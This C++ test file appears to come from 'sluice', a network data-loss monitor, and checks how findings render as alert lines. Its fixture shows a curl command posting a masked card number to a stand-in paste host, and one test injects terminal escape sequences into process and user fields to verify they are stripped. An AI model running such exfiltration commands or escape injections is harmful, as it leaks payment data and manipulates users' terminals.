// SPDX-License-Identifier: Apache-2.0
#include "alert/readable_line.h"

#include <gtest/gtest.h>
#include <time.h>

#include <cstdlib>

#include "alert/finding_record.h"
#include "sample.h"

namespace sluice::alert {
namespace {

class ReadableLine : public testing::Test {
 protected:
  void SetUp() override {
    setenv("TZ", "UTC", 1);
    tzset();
  }
};

std::string line_of(const Finding& finding, bool colour = false) {
  return readable_line(finding_record(finding, {}), colour);
}

TEST_F(ReadableLine, SaysWhoWhatWhereWhyAndWhatWasDone) {
  EXPECT_EQ(
      line_of(test::sample_finding()),
      "2026-11-24 12:03:55 WOULD BLOCK  curl[812] (alice, session-3.scope) → 203.0.113.9:80 tcp   1 card "
      "************1111\n"
      "         violations.card: no flow lets card leave to 203.0.113.9:80; nearest flow: charge-cards\n"
      "         curl -d card=**************** http://paste.example/   sluice show 00c0ffee00c0ffee\n");
}

TEST_F(ReadableLine, SaysHowItWasBlocked) {
  Finding finding = test::sample_finding();
  finding.decision.verdict = Verdict::block;
  finding.done = "socket disconnected";
  EXPECT_NE(line_of(finding).find("************1111   (socket disconnected)\n"), std::string::npos);
}

TEST_F(ReadableLine, CutsALongCommandBetweenCharacters) {
  Finding finding = test::sample_finding();
  finding.sender.args = "curl " + std::string(94, 'a') + "é" + std::string(900, 'b');
  const std::string line = line_of(finding);
  EXPECT_NE(line.find("aaa"), std::string::npos);
  EXPECT_EQ(line.find('b', line.find("aaa")), std::string::npos);
  EXPECT_EQ(line.find("\xc3…"), std::string::npos);
}

TEST_F(ReadableLine, LossOfSightNamesNoProcessAndNoDestination) {
  Finding finding;
  finding.kind = FindingKind::coverage;
  finding.last = test::kNoon;
  finding.decision = {.verdict = Verdict::alert,
                      .rule = "failure.overload",
                      .nearest = {},
                      .reason = "3 packets passed unread: the ring buffer was full"};
  EXPECT_EQ(line_of(finding),
            "2026-11-24 12:03:55 ALERT        sluiced   loss of sight\n"
            "         failure.overload: 3 packets passed unread: the ring buffer was full\n");
}

TEST_F(ReadableLine, CountsRepeatsAndNamesTheDestination) {
  Finding finding = test::sample_finding();
  finding.count = 9;
  finding.destination.name = "paste.example";
  finding.decision.verdict = Verdict::block;
  const std::string line = line_of(finding);
  EXPECT_NE(line.find("BLOCKED"), std::string::npos);
  EXPECT_NE(line.find("→ paste.example:80 tcp"), std::string::npos);
  EXPECT_NE(line.find("(seen 9 times)"), std::string::npos);
}

TEST_F(ReadableLine, ColoursOnlyWhenAsked) {
  EXPECT_EQ(line_of(test::sample_finding(), false).find('\x1b'), std::string::npos);
  EXPECT_NE(line_of(test::sample_finding(), true).find("\x1b[1;33mWOULD BLOCK"), std::string::npos);
}

TEST_F(ReadableLine, LetsNoTerminalEscapeThrough) {
  Finding finding = test::sample_finding();
  finding.sender.exe = "/tmp/\x1b]0;pwned\x07";
  finding.sender.user = "\x1b[2J";
  EXPECT_EQ(line_of(finding).find('\x1b'), std::string::npos);
  // A record from a daemon that does not sanitise.
  nlohmann::json record = finding_record(test::sample_finding(), {});
  record["actor"]["process"]["name"] = "\x1b[2J";
  EXPECT_EQ(readable_line(record, false).find('\x1b'), std::string::npos);
}

TEST_F(ReadableLine, TakesARecordThatLacksEverything) {
  EXPECT_FALSE(readable_line(nlohmann::json::object(), false).empty());
  EXPECT_FALSE(readable_line(nlohmann::json::array(), false).empty());
  EXPECT_FALSE(readable_line({{"actor", 5}, {"time", "x"}, {"unmapped", {{"sluice", 1}}}}, false).empty());
}

}  // namespace
}  // namespace sluice::alert
